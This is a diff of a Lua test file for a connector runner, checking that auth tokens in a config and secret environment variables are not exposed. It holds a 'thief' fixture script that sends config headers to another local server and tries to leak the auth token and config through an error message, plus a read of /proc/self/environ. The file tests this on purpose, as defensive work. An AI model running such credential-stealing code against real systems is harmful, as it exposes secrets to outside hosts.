@@ -212,9 +212,9 @@ describe("the token of a config", function()
         local config = context.config
         local _, message = require "http".get(%q, { headers = sentry.headers(config) })
         error(message .. "; " .. config.auth_token .. "; " .. require "json".encode(config))
-      end }]]
+      end, hosts = %q }]]
     local other = sentry.scenario { own_port = true }
-    perigee.write(script:format(other.url), "thief/thief.lua")
+    perigee.write(script:format(other.url, other.url:match "^http://[^/]+"), "thief/thief.lua")
     local result = assert_silent(perigee.run { "read", "--scripts", folder, "--config",
       perigee.write(sentry.config(sentry.scenario {})), "--catalog", perigee.write_catalog { "thief" } })
     local message = result.of("TRACE")[2].error.message
@@ -238,5 +238,23 @@ describe("the token of a config", function()
     assert_untold(seen.cmdline)
     assert.matches("read%z%-%-config%z", seen.cmdline)
     assert.matches("Max core file size +0 +0 ", seen.limits)
+  end)
+end)
+
+describe("secrets of the environment", function()
+  teardown(perigee.cleanup)
+
+  it("are handles from the start, and are taken out of it", function()
+    local result = perigee.interpret([[
+      local secrets = require "secrets"
+      local spec = [=[{"properties":{"auth_token":{"airbyte_secret":true},"organization":{}}}]=]
+      print(secrets.environment({ auth_token = "A_TOKEN" }, spec))
+      print(secrets.environment({ organization = "AN_ORGANIZATION", project = "NOT_SET", host = "EMPTY" }, spec))
+      print(os.getenv "A_TOKEN", os.getenv "AN_ORGANIZATION", os.getenv "OTHER")
+      for line in io.lines "/proc/self/environ" do print((line:find "the-secret-value")) end
+    ]], { A_TOKEN = "the-secret-value", AN_ORGANIZATION = "acme \"1\"", EMPTY = "", OTHER = "stays" })
+    assert.same({
+      '{"auth_token":"<secret:auth_token>"}', '{"organization":"acme \\"1\\""}', "nil\tnil\tstays", "nil",
+    }, result.lines)
   end)
 end)
